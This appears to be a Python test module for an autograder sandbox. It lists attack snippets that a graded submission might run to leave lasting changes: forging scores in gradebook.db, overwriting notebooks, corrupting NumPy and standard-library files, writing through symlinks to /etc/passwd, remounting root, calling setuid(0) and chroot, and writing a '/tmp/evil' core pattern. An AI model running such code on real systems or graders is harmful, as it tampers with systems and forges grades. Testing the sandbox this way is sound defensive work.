"""Attacks that change what outlives a submission."""

from attack import REASONED, SEEN, right

_DONE = f"done: it writes as the grader ({SEEN})"
_HERE = "nothing outside changes, nothing stays; honest points"


def _tries(name, mechanism, code, stock=_DONE):
    head = "import os, sys, glob, stat\ntried = 0\ndef attempt(function, *arguments):\n    global tried\n    tried += 1\n    try:\n        return function(*arguments)\n    except Exception:\n        return None\n"
    return right(name, mechanism, stock, _HERE, head + code + "\nprint('tried', 'some' if tried else 'none')\n", proof="tried some")


ATTACKS = [
    _tries("the gradebook", "Gives itself points in gradebook.db, wherever it may lie.",
           "import sqlite3\nfor path in ('gradebook.db', '../gradebook.db', '../../gradebook.db', '/course/gradebook.db', '/tmp/gradebook.db'):\n"
           "    attempt(lambda: sqlite3.connect(path, timeout=0.1).execute('update grade set manual_score = 100'))\n"),
    _tries("left-behind files", "Writes a file into every folder that it can reach, for the next student.",
           "for folder in ('/', '/tmp', '/var/tmp', '/dev/shm', '/dev', '/run', '/etc', '/usr', '/box', '/box/library0', '/proc/self', os.getcwd(), *sys.path):\n"
           "    attempt(lambda: open(folder + '/left-behind', 'w').write('mine'))\n"),
    _tries("site-packages", "Appends to NumPy, to the box's own code and to the standard library on disk.",
           "import numpy, json\nfor module in (numpy, json, os, sys.modules['autograder.box.worker']):\n    attempt(lambda: open(module.__file__, 'a').write('raise SystemExit'))\n    attempt(os.chmod, module.__file__, 0o777)\n    attempt(os.unlink, module.__file__)\n"),
    _tries("symbolic links", "Plants links from its folder to the course and to system files, and writes through them.",
           "for target in ('/etc/passwd', '/proc/1/root/etc/passwd', '../../course', '/proc/self/fd/3', '/root'):\n    attempt(os.symlink, target, f'link{tried}')\n"
           "for link in glob.glob('link*'):\n    attempt(lambda: open(link, 'a').write('mine'))\n    attempt(os.link, link, 'hard' + link)\n"),
    _tries("mounts", "Remounts the system writable, mounts over it, makes devices and new namespaces.",
           "import ctypes\nlibc = ctypes.CDLL(None)\nfor flags in (32, 32 | 4096):\n    attempt(libc.mount, None, b'/', None, flags, None)\nattempt(libc.unshare, 0x10000000)\nattempt(libc.unshare, 0x20000)\n"
           "attempt(os.mknod, '/tmp/disk', stat.S_IFBLK | 0o600, os.makedev(8, 0))\nattempt(os.chroot, '/tmp')\nattempt(os.setuid, 0)\nattempt(libc.mount, b'tmpfs', b'/usr', b'tmpfs', 0, None)\n", f"not tried; it writes without it ({REASONED})"),
    _tries("its own notebook", "Rewrites the notebook and its metadata while it is graded.",
           "for path in glob.glob('*.ipynb') + ['square.ipynb', '../convolution.ipynb']:\n    attempt(lambda: open(path, 'w').write('{\"points\": 100}'))\n"),
    _tries("kernel settings", "Writes to /proc/sys, /sys and the core pattern.",
           "for path in ('/proc/sys/kernel/core_pattern', '/proc/sys/vm/overcommit_memory', '/proc/sysrq-trigger', '/sys/kernel/uevent_helper', '/proc/self/oom_score_adj', '/proc/1/oom_score_adj'):\n    attempt(lambda: open(path, 'w').write('|/tmp/evil'))\n", f"not tried; refused unless the grader is root ({REASONED})"),
]
